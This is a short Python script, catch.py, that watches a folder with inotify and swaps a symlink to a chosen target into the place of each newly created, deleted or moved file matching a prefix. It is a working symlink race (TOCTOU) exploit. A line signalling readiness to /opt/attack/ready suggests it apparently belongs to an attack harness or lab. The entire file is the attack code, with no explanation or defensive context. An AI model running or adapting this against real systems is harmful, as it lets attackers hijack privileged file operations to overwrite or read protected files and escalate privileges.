"""catch.py FOLDER PREFIX TARGET: puts a link to TARGET in the place of each new file of a folder, and of each that goes."""
import ctypes
import os
import struct
import sys

folder, prefix, target = sys.argv[1:]
IN_CREATE, IN_DELETE, IN_MOVED_FROM = 0x100, 0x200, 0x40
libc = ctypes.CDLL(None, use_errno=True)
watch = libc.inotify_init()
libc.inotify_add_watch(watch, folder.encode(), IN_CREATE | IN_DELETE | IN_MOVED_FROM)
os.chdir(folder)
spares = [f".spare-{os.getpid()}-{index}" for index in range(4)]


def spare():
    for name in spares:
        if not os.path.lexists(name):
            os.symlink(target, name)
    return spares[0]


open("/opt/attack/ready", "w").close()
while True:
    ready = spare()
    data = os.read(watch, 65536)
    at = 0
    while at < len(data):
        _, mask, _, length = struct.unpack_from("iIII", data, at)
        name = data[at + 16 : at + 16 + length].rstrip(b"\0").decode()
        at += 16 + length
        if name.startswith(prefix) and not name.startswith(".spare"):
            try:
                os.rename(ready, name)
            except OSError:
                pass
            ready = spare()
